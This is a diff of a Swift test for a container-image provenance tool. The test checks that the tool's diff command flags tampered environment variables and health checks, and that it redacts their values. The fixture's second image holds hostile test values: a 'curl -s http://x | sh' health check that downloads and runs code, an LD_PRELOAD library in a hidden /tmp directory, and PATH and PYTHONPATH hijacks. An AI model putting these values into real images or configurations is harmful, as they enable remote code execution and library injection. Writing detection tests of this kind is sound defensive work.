@@ -129,16 +129,25 @@ import Testing
             try w.write()
             return "oci-dir:" + dir.appendingPathComponent(name).path
         }
-        let v1 = try image("v1", env: ["PATH=/usr/bin", "LOG_LEVEL=info"], health: nil)
-        let v2 = try image("v2", env: ["PATH=/tmp/.x:/usr/bin", "LOG_LEVEL=debug", "LD_PRELOAD=/tmp/.x/l.so"], health: ["CMD-SHELL", "curl -s http://x | sh"])
+        // PYTHON_VERSION is a version official images set, read by nothing at run time: low, not high
+        // (found by review). A second PYTHONPATH ahead of the same one is a change: getenv reads the first.
+        let v1 = try image("v1", env: ["PATH=/usr/bin", "LOG_LEVEL=info", "PYTHON_VERSION=3.12.7", "PYTHONPATH=/app"], health: nil)
+        let v2 = try image("v2", env: ["PATH=/tmp/.x:/usr/bin", "LOG_LEVEL=debug", "LD_PRELOAD=/tmp/.x/l.so", "PYTHON_VERSION=3.12.8",
+                                       "PYTHONPATH=/tmp/.x", "PYTHONPATH=/app"], health: ["CMD-SHELL", "curl -s http://x | sh"])
         let r = try runProcess(provenantBinary, ["diff", v1, v2, "--format", "json", "--fail-on", "high", "--quiet"])
         #expect(r.code == 1, "\(r.err)")
         let doc = try #require(try JSONSerialization.jsonObject(with: Data(r.out.utf8)) as? [String: Any])
         let found = (doc["findings"] as? [[String: Any]] ?? []).map { "\($0["rule"] ?? "") \($0["subject"] ?? "")" }.sorted()
         #expect(found == ["drift:image-command environment variable LD_PRELOAD", "drift:image-command environment variable PATH",
-                          "drift:image-command health check", "drift:image-env LOG_LEVEL"], "\(found)")
+                          "drift:image-command environment variable PYTHONPATH", "drift:image-command health check",
+                          "drift:image-env LOG_LEVEL", "drift:image-env PYTHON_VERSION"], "\(found)")
         #expect(!r.out.contains("/tmp/.x") && !r.out.contains("debug"), "values are never written: \(r.out)")
         #expect(try runProcess(provenantBinary, ["diff", v2, v2, "--fail-on", "low", "--quiet"]).code == 0, "the same image is no change")
+        // Against an SBOM, which keeps no values, that is said (found by review).
+        let sbom = dir.appendingPathComponent("v1.cdx.json").path
+        #expect(try runProcess(provenantBinary, ["sbom", v1, "-o", sbom, "--quiet"]).code == 0)
+        let s = try runProcess(provenantBinary, ["diff", sbom, v2, "--quiet"])
+        #expect(s.out.contains("only environment names were compared"), "\(s.out)")
     }
 
     /// An entrypoint whose secret changed redacts to the same words on both sides. Two images read in
